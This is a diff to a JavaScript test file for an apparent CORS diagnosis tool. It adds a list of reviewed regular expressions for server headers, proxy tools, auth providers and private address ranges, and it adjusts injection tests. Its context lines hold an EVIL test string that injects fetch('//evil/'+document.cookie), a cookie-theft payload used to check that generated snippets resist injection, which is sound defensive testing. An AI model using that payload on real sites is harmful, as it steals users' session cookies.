@@ -200,6 +200,54 @@ const REVIEWED_REGEXES = new Set([
   '/openresty/i',
   '/webinspector|chrom|edge/',
   '/webinspector|playwright|cors lens/i',
+  '/[\\u0000-\\u001f\\u007f-\\u009f\\u061c\\u200e\\u200f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069]/g',
+  '/^vary$/i',
+  '/^php\\//i',
+  '/^no-cache, private$/i',
+  '/^set-cookie$/i',
+  '/^(laravel_session|XSRF-TOKEN)=/i',
+  '/cloudfront/i',
+  '/^gunicorn/i',
+  '/^(puma|webrick|thin|unicorn|passenger)/i',
+  "/^[!#$%&'*+.^_`|~0-9A-Za-z-]+$/",
+  '/^ {8}/',
+  '/^\\/sanctum\\//',
+  '/^[a-z]+:\\/\\//i',
+  '/^http:/',
+  '/Auth0/',
+  '/Okta/',
+  '/Entra/',
+  '/Cognito/',
+  '/^[A-Za-z0-9.-]+(:\\d+)?$/',
+  '/webinspector|chrom|edge|playwright/',
+  '/zap|mitmproxy|charles|fiddler|insomnia|postman|burp|proxyman|http ?toolkit/i',
+  '/^(\\d{1,3})\\.(\\d{1,3})\\.(\\d{1,3})\\.(\\d{1,3})$/',
+  '/^::ffff:(\\d+\\.\\d+\\.\\d+\\.\\d+)$/',
+  '/^f[cd][0-9a-f]{0,2}:/',
+  '/^fe[89ab][0-9a-f]?:/',
+  '/\\.$/',
+  '/LOCAL_NETWORK_ACCESS/i',
+  '/ERR_FAILED$/',
+  '/(^|\\.)auth0\\.com$/',
+  '/(^|\\.)(okta|oktapreview|okta-emea)\\.com$/',
+  '/^login\\.(microsoftonline|windows)\\.(com|net)$/',
+  '/^(accounts\\.google\\.com|oauth2\\.googleapis\\.com)$/',
+  '/^cognito-idp\\.[a-z0-9-]+\\.amazonaws\\.com$|\\.amazoncognito\\.com$/',
+  '/(^|\\.)onelogin\\.com$/',
+  '/\\.clerk\\.accounts\\.dev$/',
+  '/^login\\.salesforce\\.com$/',
+  '/(^|\\.)googleapis\\.com$/',
+  '/^(api\\.)?github\\.com$/',
+  '/^api\\.stripe\\.com$/',
+  '/^graph\\.facebook\\.com$/',
+  '/^api\\.(twitter|x)\\.com$/',
+  '/^api\\.openai\\.com$/',
+  '/(^|\\.)slack\\.com$/',
+  '/^api\\.mapbox\\.com$/',
+  '/^(cdn\\.jsdelivr\\.net|unpkg\\.com|cdnjs\\.cloudflare\\.com|fonts\\.gstatic\\.com)$/',
+  '/^GitHub\\.com$/i',
+  '/^(co|com|net|org|gov|ac|edu|ne|or)\\.[a-z]{2}$/',
+  '/\\.(test|localhost|local|internal|example|invalid|lan|home\\.arpa)$/',
 ])
 
 const EVIL = "'+fetch('//evil/'+document.cookie)+'"
@@ -227,7 +275,11 @@ describe('injection: every snippet parses in its language, whatever the input', 
     const d = diagnose(
       exchange({
         method: '__proto__',
-        preflight: preflight('__proto__', null, response(204, ['Access-Control-Allow-Origin', ORIGIN])),
+        preflight: preflight(
+          '__proto__',
+          null,
+          response(204, ['Access-Control-Allow-Origin', ORIGIN], ['X-Powered-By', 'ASP.NET']),
+        ),
       }),
     )
     const aspnet = d.fixes.find((f) => f.stack === 'aspnet')
@@ -251,7 +303,7 @@ describe('injection: every snippet parses in its language, whatever the input', 
       }),
     )
     for (const fix of d.fixes) {
-      expect(fix.snippet).toContain('left out the request header "x"y"')
+      expect(fix.snippet).toContain('left out the request header "x?y"')
       expect(fix.snippet).toContain('not an HTTP token')
       for (const c of fix.changes) expect(c.snippet).not.toContain('a b')
     }
